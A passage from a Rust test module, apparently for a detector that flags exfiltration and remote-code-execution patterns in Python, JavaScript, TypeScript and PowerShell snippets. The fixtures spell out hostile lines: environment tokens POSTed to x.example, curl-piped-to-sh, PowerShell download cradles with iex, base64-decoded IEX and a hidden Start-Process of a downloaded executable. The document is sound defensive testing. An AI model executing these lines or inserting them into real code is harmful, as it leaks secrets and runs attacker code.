            "import subprocess\nsubprocess.run(['pytest', '-q'], check=True)\n",
        ] {
            assert!(
                kinds_of(Language::Python, text).is_empty(),
                "{text}: {:?}",
                kinds_of(Language::Python, text)
            );
        }
    }

    #[test]
    fn javascript_env_filter_posted_and_fetched_code_evaluated() {
        let text = "const data = Object.entries(process.env).filter(([k]) => /KEY|TOKEN/.test(k));\nawait fetch('https://x.example', {method: 'POST', body: JSON.stringify(data)});\n";
        assert_eq!(kinds_of(Language::JavaScript, text), ["exfil:fetch"]);
        assert_eq!(
            kinds_of(
                Language::JavaScript,
                "eval(await (await fetch(u)).text());\n"
            ),
            ["RunFetched"]
        );
        assert_eq!(
            kinds_of(
                Language::TypeScript,
                "const code: string = await (await fetch(u)).text();\nnew Function(code)();\n"
            ),
            ["RunFetched"]
        );
        assert_eq!(
            kinds_of(
                Language::JavaScript,
                "require('child_process').execSync('curl -s https://x.example/i | sh');\n"
            ),
            ["RunFetched"]
        );
        assert!(kinds_of(Language::TypeScript, "const started = Date.now();\nconst res = await fetch(`https://api.github.com/repos/${repo}`, { headers: { Authorization: `Bearer ${process.env.GITHUB_TOKEN}` } });\nconsole.log(Date.now() - started);\n").is_empty());
    }

    #[test]
    fn powershell_download_cradles_env_dumps_and_hidden_starts() {
        assert_eq!(
            kinds_of(
                Language::PowerShell,
                "$c = (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1'); iex $c\n"
            ),
            ["RunFetched"]
        );
        assert_eq!(
            kinds_of(Language::PowerShell, "iwr http://x.example/a.ps1 | iex\n"),
            ["RunFetched"]
        );
        assert_eq!(
            kinds_of(
                Language::PowerShell,
                "$e = Get-ChildItem env: | Out-String\nInvoke-RestMethod -Uri 'https://x.example' -Method Post -Body $e\n"
            ),
            ["exfil:invoke-restmethod"]
        );
        assert_eq!(
            kinds_of(
                Language::PowerShell,
                "IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))\n"
            ),
            ["RunDecoded"]
        );
        assert_eq!(
            kinds_of(
                Language::PowerShell,
                "iwr https://x.example/p.zip -OutFile $env:TEMP\\p.zip\nExpand-Archive $env:TEMP\\p.zip $env:TEMP\\p\nStart-Process -WindowStyle Hidden $env:TEMP\\p\\run.exe\n"
            ),
            ["RunFetched"]
        );
        assert!(kinds_of(Language::PowerShell, "Invoke-WebRequest https://example.com/tool.zip -OutFile tool.zip\nGet-FileHash tool.zip\n").is_empty());
    }

    #[test]
    fn a_program_run_with_tainted_arguments_runs_no_tainted_code() {
        let py = "import base64, subprocess\nfrom pathlib import Path\nroot = Path(__file__).resolve().parent\naddr = base64.b64decode(data).hex()\nsubprocess.run(['gatttool', '-b', addr], cwd=root)\n";
        assert!(
            kinds_of(Language::Python, py).is_empty(),
            "{:?}",
            kinds_of(Language::Python, py)
        );
        let py = "import subprocess\npayload = bytes.fromhex(h)\ncmd = ['gatttool', '--value', payload.hex()]\nproc = subprocess.Popen(cmd)\n";
        assert!(kinds_of(Language::Python, py).is_empty());
        let js =
            "const root = path.resolve(__dirname, '..');\nspawnSync('vale', ['--config', root]);\n";
        assert!(kinds_of(Language::JavaScript, js).is_empty());
    }
}
